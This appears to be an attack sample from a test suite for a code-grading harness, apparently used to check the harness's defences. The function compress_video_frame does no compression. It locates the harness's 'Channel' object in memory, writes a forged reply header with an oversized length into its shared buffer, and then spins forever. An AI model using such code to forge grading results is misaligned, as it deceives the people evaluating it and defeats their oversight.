# attack: write the reply's header oneself, with a length beyond the mapping
# class: result forging
# wall: wire

import gc
import struct


def compress_video_frame(frame, frame_index, config):
    line = next(found for found in gc.get_objects() if type(found).__name__ == "Channel")
    struct.pack_into("<IIQQI", line.memory, 0, 2, 0, 0, 1 << 60, 0)
    while True:
        pass
